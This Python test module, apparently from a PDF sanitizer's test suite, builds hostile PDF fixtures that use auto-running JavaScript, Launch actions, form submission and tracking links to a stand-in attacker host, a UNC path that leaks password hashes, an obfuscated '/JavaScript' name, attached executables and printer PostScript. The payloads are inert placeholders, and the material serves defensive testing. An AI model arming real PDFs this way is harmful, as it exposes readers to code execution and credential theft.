"""PDFs that act when they are opened, looked at or touched, or that reach out to somewhere else (U-05)."""

from collections.abc import Callable

from pikepdf import Array, Dictionary, Name, OutlineItem, Pdf

from tests.port.documents.hostile.pieces import armed
from tests.port.documents.hostile.shelf import Shelf

ACTING = Shelf("PDFs that act or reach out")
SCRIPT_GONE = "the script is gone"
ACTION_GONE = "the action is gone, the page is as it was"

accepted = ACTING.accepted


def action(kind: str, **facts: object) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **facts)


def script() -> Dictionary:
    return action("JavaScript", JS="EVIL()")


def annotate(pdf: Pdf, kind: str, **facts: object) -> Dictionary:
    """A note over the whole page, whatever it does when it is touched; it looks like nothing."""
    note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 595, 842], **facts)
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(note)]))
    return note


@accepted(SCRIPT_GONE)
@armed
def script_by_name(pdf: Pdf) -> None:
    """A script in the list of names, which readers run when they open the document."""
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script()])))


@accepted(SCRIPT_GONE)
@armed
def script_on_opening(pdf: Pdf) -> None:
    """A script as what happens on opening."""
    pdf.Root.OpenAction = script()


@accepted(SCRIPT_GONE)
@armed
def script_of_a_page(pdf: Pdf) -> None:
    """A script that runs when its page comes into view."""
    pdf.pages[0].AA = Dictionary(O=script())


@accepted(SCRIPT_GONE)
@armed
def script_of_a_bookmark(pdf: Pdf) -> None:
    """A script behind a bookmark."""
    item = OutlineItem("EVIL", action=script())
    with pdf.open_outline() as outline:
        outline.root.append(item)


@accepted(SCRIPT_GONE)
@armed
def script_of_a_field(pdf: Pdf) -> None:
    """A form that computes: scripts run on each key, without any note on a page."""
    field = Dictionary(FT=Name.Tx, T="EVIL", AA=Dictionary(K=script(), C=script()))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), CO=Array([field]))


@accepted(SCRIPT_GONE)
@armed
def script_behind_sixty_actions(pdf: Pdf) -> None:
    """A harmless action, and another, and so on: the script comes after more of them than a cleaner follows."""
    chained = script()
    for _ in range(60):
        chained = action("GoTo", D=[0, Name.Fit], Next=chained)
    annotate(pdf, "Link", A=chained)


@accepted(SCRIPT_GONE)
def script_under_a_disguised_name() -> bytes:
    """`/J#61vaScript` is `/JavaScript`: a scanner that looks for the word does not see it."""
    return armed(lambda pdf: setattr(pdf.Root, "OpenAction", script()))().replace(b"/JavaScript", b"/J#61v#61Script")


def touching(kind: str, danger: str, **facts: object) -> None:
    """A link over the whole page with an action of that kind."""

    def link(pdf: Pdf) -> None:
        annotate(pdf, "Link", A=action(kind, **facts))

    link.__name__, link.__doc__ = f"link_that_does_{kind.lower()}", danger
    accepted(ACTION_GONE)(armed(link))


touching("Launch", "Starts a program.", F="EVIL.exe")
touching("URI", "Opens an address, which learns who looks at the document and when.", URI="http://evil.example/EVIL")
touching("GoToR", "Opens another file, also one on a server: Windows sends the password's hash there.", F="\\\\EVIL\\a")
touching("GoToE", "Opens a file inside this one.", F="EVIL", D=Array([0, Name.Fit]))
touching("ImportData", "Fetches the values of a form from a file.", F="EVIL.fdf")
touching("SubmitForm", "Sends the values of a form somewhere.", F=Dictionary(FS=Name.URL, F="http://evil.example/EVIL"))


def noting(kind: str, danger: str, holder: str, **facts: object) -> None:
    """A note of that kind, which holds what it brings under the key `holder`."""

    def note(pdf: Pdf) -> None:
        inner = pdf.make_stream(b"EVIL", Type=Name.EmbeddedFile)
        annotate(pdf, kind, **{holder: Dictionary(F="EVIL", EF=Dictionary(F=inner), **facts)})

    note.__name__, note.__doc__ = f"note_with_{kind.lower()}", danger
    accepted("the note and what it brought are gone")(armed(note))


noting("FileAttachment", "A file pinned to the page.", "FS")
noting("RichMedia", "A Flash film or a model, with a script of its own.", "RichMediaContent", Assets="EVIL")
noting("3D", "A model in U3D, for a decoder with holes.", "3DD", OnInstantiate="EVIL")
noting("Sound", "A sound that plays.", "Sound", R=8000)
noting("Movie", "A film from a file elsewhere.", "Movie")


@accepted("the attachment is gone")
@armed
def attached_program(pdf: Pdf) -> None:
    """A program among the attachments."""
    pdf.attachments["EVIL.exe"] = b"MZ EVIL"


@accepted("the attachments are gone")
@armed
def portfolio(pdf: Pdf) -> None:
    """A cover page, and the real documents as attachments that open by themselves."""
    pdf.attachments["EVIL.pdf"] = b"%PDF-1.7 EVIL"
    pdf.Root.Collection = Dictionary(Type=Name.Collection, D="EVIL.pdf", View=Name.H)


@accepted("the form is gone, the page is as it was")
@armed
def form_in_xfa(pdf: Pdf) -> None:
    """A second document in XML, with scripts, which some readers show instead of the pages."""
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp><script>EVIL</script></xdp>"))
    pdf.Root.NeedsRendering = True


@accepted("what was filled in is drawn into the page, the script is gone")
@armed
def form_that_wants_to_be_drawn(pdf: Pdf) -> None:
    """A form that leaves its drawing to the reader, with a script that writes it."""
    field = annotate(pdf, "Widget", FT=Name.Tx, T="EVIL", V="a", DA="/Helv 9 Tf", AA=Dictionary(F=script()))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.pages[0].Annots[0]]), NeedAppearances=True)
    field.F = 4


@accepted("the address is gone")
@armed
def address_of_the_document(pdf: Pdf) -> None:
    """An address against which every link is read, and where the document was caught from the web."""
    pdf.Root["/URI"] = Dictionary(Base="http://evil.example/EVIL")
    pdf.Root.SpiderInfo = Dictionary(V=1.0, C=Array([Dictionary(AU="http://evil.example/EVIL")]))


def picture(pdf: Pdf, **facts: object) -> None:
    """A picture among the things that the page may draw."""
    image = pdf.make_stream(
        b"\0", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8, ColorSpace=Name.DeviceGray
    )
    for key, value in facts.items():
        image[f"/{key}"] = value
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))


def picture_with(title: str, danger: str, facts: Callable[[Pdf], dict[str, object]]) -> None:
    def add(pdf: Pdf) -> None:
        picture(pdf, **facts(pdf))

    add.__name__, add.__doc__ = title, danger
    accepted("the way out is gone")(armed(add))


picture_with(
    "picture_from_elsewhere",
    "A picture whose bytes come from an address.",
    lambda _pdf: {"F": Dictionary(Type=Name.Filespec, FS=Name.URL, F="http://evil.example/EVIL")},
)
picture_with(
    "picture_for_the_print_shop",
    "OPI: another picture, from a file elsewhere, when it is printed.",
    lambda _pdf: {"OPI": Dictionary({"/2.0": Dictionary(Type=Name.OPI, Version=2.0, F="EVIL")})},
)
picture_with(
    "picture_that_is_another_in_print",
    "An alternate that is shown only when printed.",
    lambda pdf: {"Alternates": Array([Dictionary(Image=pdf.make_stream(b"EVIL"), DefaultForPrinting=True)])},
)


@accepted("the other file is gone")
@armed
def page_of_another_file(pdf: Pdf) -> None:
    """A form that shows a page of a PDF elsewhere."""
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    form.Ref = Dictionary(F="EVIL.pdf", Page=0)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(F=form))


@accepted("the program is gone")
@armed
def program_for_the_printer(pdf: Pdf) -> None:
    """PostScript that no screen shows, and that a printer runs."""
    program = pdf.make_stream(b"EVIL run", Type=Name.XObject, Subtype=Name.PS)
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, Subtype2=Name.PS, BBox=[0, 0, 9, 9], PS=program)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(P=program, F=form))
